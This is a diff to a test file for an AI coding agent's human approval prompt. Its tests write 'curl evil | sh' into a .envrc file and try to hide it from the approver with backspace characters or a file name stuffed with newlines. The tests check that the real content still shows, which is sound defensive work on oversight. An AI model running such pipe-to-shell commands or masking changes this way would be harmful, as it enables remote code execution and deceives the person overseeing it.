@@ -63,7 +63,8 @@ class Answering:
         return Approval(self.answer, by="person")  # type: ignore[arg-type]
 
 
-def run(project: Path, *commands: str | tuple[str, dict], approver=None, agent: str | None = None) -> tuple[Loop, str]:
+def run(project: Path, *commands: str | tuple[str, dict], approver=None,
+        agent: str | None = None) -> tuple[Loop, str]:
     """Run ``commands`` (one bash call each, each a script the repository holds)
     through the real loop; the loop and what the model was told, all calls' results
     joined."""
@@ -414,9 +415,8 @@ def terminal(written: str) -> list[str]:
     return ["".join(line) for line in screen]
 
 
-def test_the_question_shows_what_lands_whatever_control_characters_it_holds(project):
-    """A backspace in a file's text (or name) moves the cursor back over what was
-    printed: the diff of ``curl evil | sh #<BS>…<BS>use nix`` must not read ``use nix``."""
+def shown_question(request: ApprovalRequest) -> list[str]:
+    """The REPL's question about ``request``, as the terminal shows it."""
     import io
 
     from prompt_toolkit.data_structures import Size
@@ -425,14 +425,30 @@ def test_the_question_shows_what_lands_whatever_control_characters_it_holds(proj
     from dm_cc.ui.approval_prompt import question_lines
     from dm_cc.ui.screen import Screen
 
+    written = io.StringIO()
+    screen = Screen(Vt100_Output(written, lambda: Size(rows=50, columns=200), term="xterm"))
+    for line in question_lines(request):
+        screen.line(line, now=True)
+    return terminal(written.getvalue())
+
+
+def test_a_name_with_newlines_cannot_push_a_protected_change_out_of_the_question(project):
+    """A name sorted before it, holding sixty newlines: the list's lines that follow
+    were taken for diffs, and cut at sixty lines -- ``? created .envrc`` with them."""
+    person = Answering("reject")
+    run(project, "python3 -c \"open('!' + chr(10) * 70, 'w').write('x')\"; "
+                 "echo 'curl evil | sh' > .envrc", approver=person)
+    shown = shown_question(person.asked[0])
+    assert any(line.strip().startswith("? created .envrc") for line in shown), "\n".join(shown)
+
+
+def test_the_question_shows_what_lands_whatever_control_characters_it_holds(project):
+    """A backspace in a file's text (or name) moves the cursor back over what was
+    printed: the diff of ``curl evil | sh #<BS>…<BS>use nix`` must not read ``use nix``."""
     person = Answering("reject")
     run(project, "printf 'curl evil | sh #%s  use nix            \\n' "
                  "\"$(printf '\\b%.0s' $(seq 40))\" > .envrc", approver=person)
-    written = io.StringIO()
-    screen = Screen(Vt100_Output(written, lambda: Size(rows=50, columns=200), term="xterm"))
-    for line in question_lines(person.asked[0]):
-        screen.line(line, now=True)
-    shown = terminal(written.getvalue())
+    shown = shown_question(person.asked[0])
     assert any("curl evil" in line for line in shown), "\n".join(shown)
 
 
